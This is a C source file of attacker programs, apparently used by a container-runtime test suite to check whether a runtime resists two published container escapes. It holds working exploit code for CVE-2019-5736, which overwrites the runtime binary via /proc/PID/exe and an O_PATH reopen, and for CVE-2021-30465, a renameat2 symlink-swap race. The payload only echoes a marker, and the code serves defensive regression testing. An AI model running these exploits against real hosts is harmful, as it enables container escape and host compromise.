/* The attackers of test_cve.py, run inside containers (built static, so they need nothing
 * from the image).
 *
 *   cve_attacker exe REPORT STOPFILE SECONDS PATTERN...      CVE-2019-5736
 *
 * Until STOPFILE exists (or SECONDS pass) it scans /proc for processes whose executable
 * link or argv[0] contains one of the PATTERNs. For each it tries what the published
 * exploits did: open /proc/PID/exe for writing straight away (O_WRONLY|O_TRUNC), and take
 * an O_PATH handle on it, then reopen that handle through /proc/self/fd/N for writing once
 * the process no longer runs the file (ETXTBSY until then) and overwrite it. Every attempt
 * and its result goes to REPORT, one line each:
 *
 *   seen PID EXE ARGV0     a matching process (EXE "-errno" when the link is unreadable)
 *   direct PID RESULT      open(/proc/PID/exe, O_WRONLY|O_TRUNC): "ok" or the errno
 *   held PID TARGET        an O_PATH handle on PID's executable (TARGET: its link)
 *   reopen TARGET RESULT   a later reopen for writing: "ok" or the last errno
 *   wrote TARGET N         N bytes of payload written over TARGET
 *
 *   cve_attacker swap DIR A B STOPFILE REPORT                CVE-2021-30465
 *
 * Exchanges DIR/A and DIR/B (a directory and a symlink to "/") with renameat2
 * RENAME_EXCHANGE as fast as it can until STOPFILE exists, then writes the number of
 * exchanges to REPORT.
 *
 *   cve_attacker sleep MS      (the control target: a copy run by `exec`, then idles)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256
#define PAYLOAD "#!/bin/sh\necho pwned-by-cve-2019-5736\n"

struct held {
  int fd;
  char target[256];
  int last_errno;
  int done;
};

static struct held held[MAX_HELD];
static int n_held;
static FILE *report;

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int matches(const char *s, char **patterns, int n) {
  for (int i = 0; i < n; i++)
    if (strstr(s, patterns[i])) return 1;
  return 0;
}

static void overwrite(int fd, const char *target, const char *how, struct held *h) {
  ssize_t w = write(fd, PAYLOAD, strlen(PAYLOAD));
  if (w < 0) {
    fprintf(report, "%s %s write-%d\n", how, target, errno);
    if (h) h->last_errno = errno;
  } else {
    fprintf(report, "wrote %s %zd\n", target, w);
    if (h) h->done = 1;
  }
}

/* What was already attacked: a pid is attacked again once it runs another executable (a
 * runtime process in the container that execs the user program). */
struct seen {
  int pid;
  char exe[256];
};
static struct seen seen[4096];
static int n_seen;

static int already_seen(int pid, const char *exe) {
  for (int i = 0; i < n_seen; i++)
    if (seen[i].pid == pid && !strcmp(seen[i].exe, exe)) return 1;
  return 0;
}

/* One pass over /proc. */
static void scan(char **patterns, int n_patterns) {
  DIR *d = opendir("/proc");
  if (!d) return;
  struct dirent *de;
  int self = getpid();
  while ((de = readdir(d))) {
    int pid = (int)strtol(de->d_name, NULL, 10);
    if (pid <= 0 || pid == self) continue;
    char path[64], exe[256] = "", argv0[256] = "";
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, exe, sizeof(exe) - 1);
    if (n >= 0)
      exe[n] = '\0';
    else
      snprintf(exe, sizeof(exe), "-%d", errno);
    if (already_seen(pid, exe)) continue;
    char cmdline[64];
    snprintf(cmdline, sizeof(cmdline), "/proc/%d/cmdline", pid);
    int cfd = open(cmdline, O_RDONLY | O_CLOEXEC);
    if (cfd >= 0) {
      ssize_t m = read(cfd, argv0, sizeof(argv0) - 1);
      argv0[m > 0 ? m : 0] = '\0';
      close(cfd);
    }
    if (!matches(exe, patterns, n_patterns) && !matches(argv0, patterns, n_patterns)) continue;
    if (n_seen < (int)(sizeof(seen) / sizeof(seen[0]))) {
      seen[n_seen].pid = pid;
      snprintf(seen[n_seen].exe, sizeof(seen[n_seen].exe), "%s", exe);
      n_seen++;
    }
    fprintf(report, "seen %d %s %s\n", pid, exe, argv0);

    int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd >= 0) {
      fprintf(report, "direct %d ok\n", pid);
      overwrite(fd, exe, "direct", NULL);
      close(fd);
    } else {
      fprintf(report, "direct %d %d\n", pid, errno);
    }
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0 && n_held < MAX_HELD) {
      struct held *h = &held[n_held++];
      h->fd = fd;
      snprintf(h->target, sizeof(h->target), "%s", exe);
      fprintf(report, "held %d %s\n", pid, exe);
    } else if (fd >= 0) {
      close(fd);
    }
  }
  closedir(d);
}

/* The second half of the exploit: the file is no longer being executed, so a handle taken
 * while it ran can now be reopened for writing. */
static void reopen_held(void) {
  for (int i = 0; i < n_held; i++) {
    struct held *h = &held[i];
    if (h->done) continue;
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
    int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0) {
      h->last_errno = errno;
      continue;
    }
    fprintf(report, "reopen %s ok\n", h->target);
    overwrite(fd, h->target, "reopen", h);
    h->done = 1;
    close(fd);
  }
}

static int swap_loop(const char *dir, const char *a, const char *b, const char *stop,
                     const char *report_path) {
  int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) return 3;
  long swaps = 0;
  int last_errno = 0;
  while (access(stop, F_OK) != 0) {
    /* RENAME_EXCHANGE = 2: both names always exist, one a directory, one a symlink */
    for (int i = 0; i < 256; i++) {
      if (syscall(SYS_renameat2, dfd, a, dfd, b, 2) == 0)
        swaps++;
      else
        last_errno = errno;
    }
  }
  FILE *f = fopen(report_path, "w");
  if (!f) return 3;
  fprintf(f, "swaps %ld\nerrno %d\n", swaps, last_errno);
  fclose(f);
  return 0;
}

static int exe_attack(int argc, char **argv) {
  report = fopen(argv[0], "w");
  if (!report) return 3;
  setvbuf(report, NULL, _IOLBF, 0);
  double deadline = now() + strtod(argv[2], NULL);
  fprintf(report, "ready\n");
  while (now() < deadline && access(argv[1], F_OK) != 0) {
    scan(argv + 3, argc - 3);
    reopen_held();
  }
  /* The last processes may have exited just now: one more round of reopens. */
  usleep(50000);
  reopen_held();
  for (int i = 0; i < n_held; i++)
    if (!held[i].done) fprintf(report, "reopen %s %d\n", held[i].target, held[i].last_errno);
  fprintf(report, "end\n");
  fclose(report);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 3 && !strcmp(argv[1], "sleep")) {
    usleep((useconds_t)strtoul(argv[2], NULL, 10) * 1000);
    return 0;
  }
  if (argc == 7 && !strcmp(argv[1], "swap"))
    return swap_loop(argv[2], argv[3], argv[4], argv[5], argv[6]);
  if (argc >= 6 && !strcmp(argv[1], "exe")) return exe_attack(argc - 2, argv + 2);
  fprintf(stderr,
          "usage: %s exe REPORT STOPFILE SECONDS PATTERN... | swap DIR A B STOPFILE REPORT | "
          "sleep MS\n",
          argv[0]);
  return 2;
}
